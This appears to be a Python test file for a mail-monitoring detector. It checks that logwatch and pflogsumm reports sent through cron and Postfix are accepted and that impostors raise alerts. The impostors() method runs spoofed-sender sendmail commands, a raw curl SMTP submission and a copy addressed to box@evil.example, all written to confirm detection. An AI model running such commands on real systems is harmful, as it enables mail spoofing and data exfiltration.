# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""Reports: logwatch from cron.daily, and pflogsumm from a user's crontab, by the cron daemon, through Postfix."""

import unittest

from harness import Sink, get, short
from mta import Postfix
from scenario import ATTACKER, SystemCase

MAIN = """
myorigin = corp.example
transport_maps = inline:{{ {{ relay@corp.example = smtp:[127.0.0.1]:{other} }} }}
"""
CRONTAB = """
@reboot root cd / && run-parts --report /etc/cron.daily
@reboot reports {statistics} one@corp.example
"""
STATISTICS = '/usr/sbin/pflogsumm /var/log/mail.log | mail -s "Mail statistics"'
AUTH_LOG = "{day} 06:00:00 mta sshd[77]: Accepted password for alice from 192.0.2.7 port 5000 ssh2\n"
MAIL_LOG = """{day} 06:00:01 mta postfix/qmgr[10]: 4F1B2C3D: from=<a@corp.example>, size=500, nrcpt=1 (queue active)
{day} 06:00:02 mta postfix/smtp[11]: 4F1B2C3D: to=<b@corp.example>, relay=mx[192.0.2.9]:25, delay=1, dsn=2.0.0, status=sent
"""
LOGWATCH = """
MailTo = daily@corp.example
Range = today
TmpDir = /run
"""


class Reports(SystemCase):
    accounts = ("reports",)

    def setUp(self):
        super().setUp()
        self.good, self.other = Sink(self), Sink(self)
        root = Postfix(type(self), self.good.port, main=MAIN.format(other=self.other.port)).root
        day = root.run("date", "+%b %e").decode().strip()
        root.write("/var/log/auth.log", AUTH_LOG.format(day=day))
        root.write("/var/log/mail.log", MAIL_LOG.format(day=day))
        root.write("/etc/logwatch/conf/logwatch.conf", LOGWATCH)
        root.write("/etc/crontab", "PATH=/usr/sbin:/usr/bin:/sbin:/bin\n" + CRONTAB.format(statistics=STATISTICS))
        root.run("sh", "-c", "find /etc/cron.d /var/spool/cron/crontabs -type f -delete;"
                 "find /etc/cron.daily -type f ! -name 00logwatch -delete")
        self.begin(root, "scheduled-report", self.good.port)

    def statistics(self, user, *recipients):
        self.shell(user, f"{STATISTICS} {' '.join(recipients)}")

    def test_reports_through_postfix(self):
        self.start("/usr/sbin/cron", "-f")
        event = self.assert_excluded(self.now, "daily@corp.example", "logwatch", 60)
        self.assertEqual((get(event, "smtpsnoop.origin.user"), get(event, "smtpsnoop.origin.mta")), ("root", "postfix"))
        event = self.assert_excluded(self.now, "one@corp.example", "mail-statistics")
        self.assertEqual(get(event, "smtpsnoop.origin.user"), "reports", short(event))
        self.assert_schedule("daily@corp.example", "logwatch")
        self.assert_schedule("one@corp.example", "mail-statistics")
        self.impostors()
        self.statistics("reports", "two@corp.example")
        self.assert_excluded(self.now, "two@corp.example", "mail-statistics")
        self.statistics("reports", "three@corp.example")
        self.assert_limit("three@corp.example", "mail-statistics")
        self.end()

    def impostors(self):
        # Another user: the same program, wording and sender.
        self.shell(ATTACKER, "printf 'From: reports@corp.example\\nTo: user@corp.example\\nSubject: Mail statistics\\n\\n"
                   "Grand Totals\\n' | /usr/sbin/sendmail -f reports@corp.example -t")
        self.assertEqual(self.only_failed("user@corp.example"), ["origin"])
        self.shell(ATTACKER, "printf 'From: root\\nTo: root@corp.example\\nSubject: Logwatch for mta (Linux)\\n\\nLogwatch End"
                   "\\n' | /usr/sbin/sendmail -f root@corp.example -t")
        self.assertEqual(self.only_failed("root@corp.example", "logwatch"), ["origin"])
        # Another program: it speaks SMTP to the relay itself, without Postfix.
        text = self.write("mail.txt", "Subject: Mail statistics\r\n\r\nGrand Totals\r\n", 0o644)
        self.shell("reports", f"curl -sS smtp://127.0.0.1:{self.good.port} --mail-from reports@corp.example "
                   f"--mail-rcpt exe@corp.example -T {text}")
        self.assert_alert(self.now, "exe@corp.example", "mail-statistics", "process.executable", "process.user", "origin")
        self.statistics("reports", "relay@corp.example")
        self.assertEqual(self.only_failed("relay@corp.example"), ["relay"])
        self.statistics("reports", "more@corp.example", "box@evil.example")
        self.assertEqual(self.only_failed("box@evil.example"), ["mail.recipients"])
        self.shell("reports", "echo 'A link' | mail -s 'Mail statistics' text@corp.example")
        self.assertEqual(self.only_failed("text@corp.example"), ["mail.contains"])

    def only_failed(self, recipient, name="mail-statistics"):
        return get(self.assert_alert(self.now, recipient, name), "smtpsnoop.nearest.failed")


if __name__ == "__main__":
    unittest.main()
